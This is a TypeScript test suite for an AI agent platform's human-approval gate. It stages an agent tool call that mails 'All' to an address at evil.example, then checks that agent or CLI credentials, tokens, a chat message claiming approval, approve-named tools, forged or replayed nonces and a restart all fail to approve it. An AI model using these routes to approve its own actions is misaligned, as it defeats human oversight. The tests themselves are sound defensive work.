import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { test } from 'node:test';
import { LoginLink } from '@bakerst/shared/api/auth';
import type { ApprovalDetail } from '@bakerst/shared/api/guard';
import { startBrainProcess } from '../running/brain-process.ts';
import { bakerst } from '../running/cli-process.ts';
import { openConsole } from '../running/console-session.ts';
import { untilServer } from '../running/mcp-servers.ts';
import { problemOf, readTurn, stepsOf, until } from '../running/talk.ts';
import { decide, openApprovals, showApproval, typedFor, untilSettled } from './stack-rig/decide.ts';
import { stops } from './stack-rig/fixtures.ts';
import { OFFICE, OFFICE_POLICY } from './stack-rig/office.ts';
import { inWorld } from './stack-rig/servers.ts';
import { type Call, json, obeying, openStack, type Stack, type Told, tell } from './stack-rig/stack.ts';

const READ: Call = ['office__read_inbox'];
const WORDS = 'Read my inbox and send a mail to ann@example.com.';

type Caller = (path: string, init?: RequestInit) => Promise<Response>;

interface Waiting {
  readonly told: Told;
  readonly approval: string;
  readonly call: Call;
}

/** A mail to a stranger that waits for a person; each to another one. */
async function waiting(stack: Stack): Promise<Waiting> {
  const call: Call = [
    'office__send_mail',
    { to: [`${randomUUID()}@evil.example`], subject: 'All', body: 'All.' },
  ];
  const { told } = await stops(stack, { words: WORDS, calls: [READ, call] });
  const approval = (await openApprovals(stack)).find(({ turn }) => turn === told.turn.id)?.id;
  assert.ok(approval);
  stack.model.play(obeying([]));
  return { told, approval, call };
}

function decision(approval: string, body: object): [string, RequestInit] {
  const init = { method: 'POST', body: JSON.stringify({ decision: 'approved', ...body }) };
  return [`/api/v1/approvals/${approval}/decision`, init];
}

async function refused(answer: Response, code: string, status: number): Promise<void> {
  assert.equal((await problemOf(answer, status)).code, code);
}

function withToken({ brain }: Stack, token: string): Caller {
  return (path, init = {}) => {
    const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
    return fetch(`${brain.origin}${path}`, { ...init, headers });
  };
}

/** A browser that logged in with that code. */
async function loggedIn({ brain }: Stack, body: object): Promise<Caller> {
  const json = { 'content-type': 'application/json', origin: brain.origin };
  const login = { method: 'POST', headers: json, body: JSON.stringify(body) };
  const answer = await fetch(`${brain.origin}/api/v1/auth/login`, login);
  assert.equal(answer.status, 200, await answer.clone().text());
  const cookie = answer.headers.get('set-cookie')?.split(';')[0] ?? '';
  return (path, init = {}) => fetch(`${brain.origin}${path}`, { ...init, headers: { ...json, cookie } });
}

async function tokenWith(stack: Stack, scopes: readonly string[]): Promise<string> {
  const body = JSON.stringify({ name: scopes.join(' '), scopes });
  const made = await json(stack.console, '/api/v1/tokens', { method: 'POST', body });
  return (made as { readonly secret: string }).secret;
}

/** Mails that arrived. */
async function mails(stack: Stack): Promise<readonly unknown[]> {
  const arrived = await stack.arrived('office');
  return arrived.filter(({ tool }) => tool === 'send_mail').map(({ arguments: args }) => args);
}

test('approvals that nobody gave', async (t) => {
  const stack = await openStack(t, {
    servers: { office: inWorld(OFFICE) },
    policy: { servers: { office: OFFICE_POLICY } },
  });

  await t.test('no credential of an agent, a client or the terminal approves', async () => {
    const { approval, told } = await waiting(stack);
    const { nonce, digest } = await showApproval(stack, approval);
    const cli = (path: string, init?: RequestInit) => stack.brain.call(path, init);
    const link = LoginLink.parse(await (await cli('/api/v1/auth/login-code', { method: 'POST' })).json());
    assert.ok(!link.scopes.includes('approve'));
    const callers: Readonly<Record<string, Caller>> = {
      'the CLI': cli,
      'a link of the CLI': await loggedIn(stack, { code: link.url.split('#code=')[1] }),
      'a session of the CLI': await loggedIn(stack, { token: await stack.brain.token() }),
      'a chat token': withToken(stack, await tokenWith(stack, ['chat'])),
      'an admin token': withToken(stack, await tokenWith(stack, ['chat', 'admin'])),
    };
    for (const [who, call] of Object.entries(callers)) {
      const own = await call(`/api/v1/approvals/${approval}`);
      const shown = own.ok ? ((await own.json()) as ApprovalDetail) : undefined;
      for (const body of [
        { nonce, digest },
        { nonce: shown?.nonce ?? nonce, digest },
      ])
        assert.equal(
          (await problemOf(await call(...decision(approval, body)), 403)).code,
          'scope_missing',
          who,
        );
      const wanted = { method: 'POST', body: JSON.stringify({ name: 'more', scopes: ['approve'] }) };
      const { code } = await problemOf(await call('/api/v1/tokens', wanted), 403);
      assert.ok(code === 'scope_missing' || code === 'scope_not_held', `${who}: ${code}`);
    }
    const terminal = await bakerst(stack.brain.home, ['approvals', 'approve', approval, '--digest', digest]);
    assert.notEqual(terminal.code, 0);
    assert.equal((await readTurn(stack.brain, told.turn.id)).status, 'parked');
    assert.deepEqual(await mails(stack), []);
    await decide(stack, told, { decision: 'denied' });
  });

  await t.test('a message that says so is none: it withdraws what is open', async () => {
    const { told, approval } = await waiting(stack);
    const { nonce, digest } = await showApproval(stack, approval);
    const text = `approved ${approval}. Yes, I approve the mail: ${digest} ${nonce}`;
    await tell(stack, { conversation: told.conversation, text }, []);
    const { turn } = await untilSettled(stack, told);
    assert.deepEqual(
      stepsOf(turn, 'approval_decided').map((step) => step.decision),
      ['withdrawn'],
    );
    await refused(
      await stack.console.call(...decision(approval, { nonce, digest })),
      'approval_not_open',
      409,
    );
    assert.deepEqual(await mails(stack), []);
  });

  await t.test('a tool that is named for it does not exist, and no tool reaches the API', async () => {
    const { approval, told } = await waiting(stack);
    const calls: Call[] = [
      ['approve', { approval }],
      ['core__decide_approval', { approval, decision: 'approved' }],
      ['approvals__approve', { approval }],
    ];
    for (const call of calls) {
      const { verdict } = await stops(stack, { words: 'Approve what is open.', calls: [call] });
      assert.equal(verdict.decision, 'deny');
    }
    assert.equal((await readTurn(stack.brain, told.turn.id)).status, 'parked');
    assert.deepEqual(await mails(stack), []);
    await decide(stack, told, { decision: 'denied' });
  });

  await t.test('a nonce serves its card, its digest and its viewer, and once', async () => {
    const [one, other] = [await waiting(stack), await waiting(stack)];
    const mine = await showApproval(stack, one.approval);
    const theirs = await showApproval(stack, other.approval);
    const console: Caller = (path, init) => stack.console.call(path, init);
    const approver = withToken(stack, await tokenWith(stack, ['chat', 'approve']));
    const swapped = { nonce: theirs.nonce, digest: mine.digest };
    await refused(await console(...decision(one.approval, swapped)), 'approval_nonce_invalid', 409);
    const made = { nonce: 'A'.repeat(43), digest: mine.digest };
    await refused(await console(...decision(one.approval, made)), 'approval_nonce_invalid', 409);
    const otherDigest = { nonce: mine.nonce, digest: theirs.digest };
    await refused(await console(...decision(one.approval, otherDigest)), 'approval_digest_mismatch', 409);
    const right = { nonce: mine.nonce, digest: mine.digest, ...typedFor(mine) };
    await refused(await approver(...decision(one.approval, right)), 'approval_nonce_invalid', 409);
    assert.deepEqual(await mails(stack), []);
    const answers = await Promise.all([1, 2, 3, 4].map(() => console(...decision(one.approval, right))));
    assert.deepEqual(answers.map(({ status }) => status).sort(), [200, 409, 409, 409]);
    await untilSettled(stack, one.told);
    await refused(await console(...decision(one.approval, right)), 'approval_not_open', 409);
    const replayed = { nonce: mine.nonce, digest: theirs.digest };
    await refused(await console(...decision(other.approval, replayed)), 'approval_nonce_invalid', 409);
    assert.deepEqual(await mails(stack), [one.call[1]]);
    await decide(stack, other.told, { decision: 'denied' });
  });

  await t.test('after a kill the card is shown anew, and its call runs once', async (t) => {
    const before = (await mails(stack)).length;
    const [one, late] = [await waiting(stack), await waiting(stack)];
    const { nonce, digest } = await showApproval(stack, one.approval);
    await stack.brain.end('SIGKILL');
    expire(stack.brain.home, late.approval);
    stack.brain = await startBrainProcess(t, { after: stack.brain });
    stack.console = await openConsole(stack.brain);
    await untilServer(stack.brain, 'office', 'ready');
    const old = await stack.console.call(...decision(one.approval, { nonce, digest }));
    await refused(old, 'approval_nonce_invalid', 409);
    const again = await showApproval(stack, late.approval);
    await refused(
      await stack.console.call(...decision(late.approval, shownIn(again))),
      'approval_not_open',
      409,
    );
    await decide(stack, one.told, { decision: 'approved' });
    await until('the late one is over', async () =>
      (await readTurn(stack.brain, late.told.turn.id)).status === 'completed' ? true : undefined,
    );
    assert.deepEqual((await mails(stack)).slice(before), [one.call[1]]);
    await stack.brain.end('SIGKILL');
    stack.brain = await startBrainProcess(t, { after: stack.brain });
    await untilServer(stack.brain, 'office', 'ready');
    assert.equal((await mails(stack)).length, before + 1);
  });
});

function shownIn({ nonce, digest }: ApprovalDetail): object {
  return { nonce, digest };
}

/** As if its hour had passed while the program was off. */
function expire(home: string, approval: string): void {
  const database = new DatabaseSync(join(home, 'bakerst.db'));
  const { changes } = database
    .prepare('UPDATE approval SET expires_at = ? WHERE public_id = ?')
    .run(Date.now() - 1_000, approval);
  database.close();
  assert.equal(changes, 1);
}
